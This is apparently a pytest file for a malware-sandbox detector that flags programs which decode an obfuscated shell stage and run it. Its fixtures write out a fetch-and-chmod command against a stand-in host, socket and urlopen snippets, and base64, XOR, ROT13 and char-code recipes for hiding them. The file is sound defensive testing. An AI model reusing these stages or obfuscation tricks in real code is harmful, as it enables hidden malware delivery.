"""A stage decoded in a compiled program's memory (provenance/encoded.py, embedded.py): what
the program's shell ran is in its file only encoded, so the program decoded it (T1140)."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import random
from dataclasses import replace
from pathlib import Path

import pytest

from detonate.detect.correlations.decode_to_shell import DecodeToShell
from detonate.detect.interface import RunView
from detonate.detect.provenance.encoded import hidden
from detonate.model.events import DataWritten
from detonate.model.findings import Finding
from detonate.model.runtime import ChangeKind, ContentType, FileChange

from .stream import Stream

STAGE = "wget -q -O /var/tmp/.kx http://cdn.mirror.test/k.bin; chmod +x /var/tmp/.kx"
URL = "http://cdn.mirror.test/k.bin"
# stands in for a compiled program: random bytes and a NUL (a binary), the stage placed inside
FILLER = bytes(range(256)) + random.Random(1140).randbytes(64 * 1024)


def _xor(data: bytes, key: bytes) -> bytes:
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


def _in_binary(blob: bytes) -> bytes:
    return FILLER[:40_000] + blob + FILLER[40_000:]


@pytest.mark.parametrize(
    ("blob", "how"),
    [
        (base64.b64encode(STAGE.encode()), "base64"),
        (base64.b64encode(b"#!/bin/sh\n" + STAGE.encode()), "base64"),  # another alignment
        (base64.urlsafe_b64encode(b"xx" + STAGE.encode()), "base64"),
        (STAGE.encode().hex().encode(), "hex"),
        (STAGE.encode()[::-1], "reversed"),
        (codecs.encode(STAGE, "rot13").encode(), "ROT13"),
        (_xor(STAGE.encode(), b"\x5a"), "1-byte key"),
        (_xor(b"id; " + STAGE.encode(), b"k3y!\x90"), "5-byte key"),
        (gzip.compress(STAGE.encode()), "compressed"),
        (bz2.compress(STAGE.encode()), "compressed"),
        (base64.b64encode(gzip.compress(STAGE.encode())), "compressed base64"),
    ],
)
def test_a_text_held_only_encoded_in_a_binary_is_found_with_its_encoding(
    blob: bytes, how: str
) -> None:
    found = hidden(_in_binary(blob), [STAGE, URL])
    assert how in found[STAGE]


def test_escapes_and_char_codes_count_in_program_text() -> None:
    codes = ", ".join(str(b) for b in URL.encode())
    script = f"const u = String.fromCharCode({codes});\nfetch(u)\n".encode()
    assert hidden(script, [URL]) == {URL: "decimal char codes"}
    escaped = ("x = '" + "".join(f"\\x{b:02x}" for b in URL.encode()) + "'").encode()
    assert hidden(escaped, [URL]) == {URL: "\\x escapes"}


def test_a_text_in_the_clear_is_not_hidden_even_if_also_encoded() -> None:
    data = _in_binary(STAGE.encode() + _xor(STAGE.encode(), b"key"))
    assert hidden(data, [STAGE]) == {}


def test_texts_nowhere_in_the_file_and_short_texts_are_not_found() -> None:
    assert hidden(FILLER, [STAGE, URL]) == {}
    assert hidden(_in_binary(_xor(b"ls -la /tmp", b"\x21")), ["ls -la /tmp"]) == {}  # < 12


def test_a_run_of_one_character_does_not_match_zeroed_padding() -> None:
    padded = FILLER[:1000] + b"\0" * 4096 + b"A" * 64 + FILLER[1000:]
    assert hidden(padded, ["=" * 40 + "x" * 8]) == {}


def _fed_shell_run(binary: bytes, *, argv_url: bool = False) -> RunView:
    """A compiled /usr/bin/fontcache writes a stage into `sh -s` on a pipe; the shell runs wget."""
    s = Stream()
    s.exec(1, "fontcache", *([URL] if argv_url else []), path="/usr/bin/fontcache")
    s.add(DataWritten, 1, path="pipe:[77]", fd=5, bytes=len(STAGE))
    s.spawn(1, 2, "sh", "-s", path="/bin/sh", stdin="pipe:[77]")
    s.spawn(2, 3, "wget", "-q", "-O", "/var/tmp/.kx", URL, path="/usr/bin/wget", stdin="pipe:[77]")
    s.exit(3)
    s.exit(2)
    return replace(s.view(), image_files={"/usr/bin/fontcache": binary})


def _detect(view: RunView) -> dict[str, Finding]:
    return {f.rule_id: f for f in DecodeToShell().detect(view)}


def test_a_compiled_program_whose_shell_ran_its_xored_stage_decoded_it() -> None:
    found = _detect(_fed_shell_run(_in_binary(_xor(STAGE.encode(), b"\x5a\x13\xc7\x91"))))
    assert set(found) == {"decode-to-shell", "obfuscated-command-stage"}
    evidence = found["decode-to-shell"].evidence
    text = " ".join(f"{e.description} {e.excerpt}" for e in evidence)
    assert "/usr/bin/fontcache holds it XOR'd with the 4-byte key" in text
    assert "sh read it from the program's pipe" in text


def test_a_program_that_holds_its_commands_in_the_clear_decoded_nothing() -> None:
    assert _detect(_fed_shell_run(_in_binary(STAGE.encode()))) == {}


def test_a_url_given_on_the_command_line_was_not_decoded() -> None:
    binary = _in_binary(base64.b64encode(URL.encode()))  # e.g. a default also kept encoded
    assert _detect(_fed_shell_run(binary, argv_url=True)) == {}


def test_char_codes_shifted_by_a_constant_are_found_in_program_text() -> None:
    codes = ", ".join(str(b + 3) for b in URL.encode())
    script = f"const s = [{codes}].map(c => String.fromCharCode(c - 3)).join('');\n".encode()
    assert hidden(script, [URL]) == {URL: "decimal char codes shifted by 3"}


def test_a_reversed_base64_literal_of_a_script_is_decoded_and_searched() -> None:
    stage = f"use IO::Socket; my $u = '{URL}';"
    literal = base64.b64encode(stage.encode()).decode()[::-1]
    script = f"EXT = '{literal[:30]}' \\\n  '{literal[30:]}'\nputs EXT.reverse.unpack1('m')\n"
    found = hidden(script.replace("' \\\n  '", "").encode(), [URL])  # joined as embedded.py does
    assert found == {URL: "plain in a reversed literal"}


def test_hex_fragments_xored_with_a_key_are_found() -> None:
    blob = _xor(b"login to " + URL.encode(), b"k3y").hex()
    script = f"my $x = pack('H*', '{blob}'); $x ^= 'k3y' x 40;\n".encode()
    assert "XOR'd with the 3-byte key" in hidden(script, [URL])[URL]


def test_a_comment_naming_the_stage_does_not_hide_that_the_code_holds_it_rot13d(
    tmp_path: Path,
) -> None:
    """Perl rot13s a literal into a file that sh then sources; the decoded text in a comment
    of the script is not code."""
    rot = codecs.encode(STAGE, "rot13")
    script = (
        f'#!/usr/bin/perl\n# it is: {STAGE}\nmy $e = "{rot}";\n'
        "(my $p = $e) =~ tr/A-Za-z/N-ZA-Mn-za-m/;\n"
    )
    s = Stream()
    s.exec(1, "perl", "/opt/sync.pl", path="/usr/bin/perl")
    s.write(1, "/tmp/.env")
    s.spawn(1, 2, "sh", "-c", ". /tmp/.env", path="/bin/sh")
    s.spawn(2, 3, "wget", "-q", "-O", "/var/tmp/.kx", URL, path="/usr/bin/wget")
    s.files.append(FileChange("/tmp/.env", ChangeKind.CREATED, ContentType.SCRIPT, artifact="env"))
    written = tmp_path / "env"
    written.write_text(STAGE + "\n")
    view = replace(
        s.view(), image_files={"/opt/sync.pl": script.encode()}, artifacts_dir=written.parent
    )
    found = _detect(view)
    assert "decode-to-shell" in found
    text = " ".join(e.description for e in found["decode-to-shell"].evidence)
    assert "/opt/sync.pl holds it ROT13" in text and "sourced" in text


def test_a_compiled_program_passing_a_decoded_python_stage_to_python_c() -> None:
    code = f"import urllib.request; urllib.request.urlopen('{URL}', data=b'x')"
    escaped = "".join(f"\\x{b:02x}" for b in code.encode()).encode()
    s = Stream()
    s.exec(1, "pyshim", path="/usr/local/bin/pyshim")
    s.spawn(1, 2, "python3", "-c", code, path="/usr/bin/python3")
    view = replace(s.view(), image_files={"/usr/local/bin/pyshim": _in_binary(escaped)})
    found = _detect(view)
    assert "decode-to-shell" in found
    assert any("\\x escapes" in e.description for e in found["decode-to-shell"].evidence)
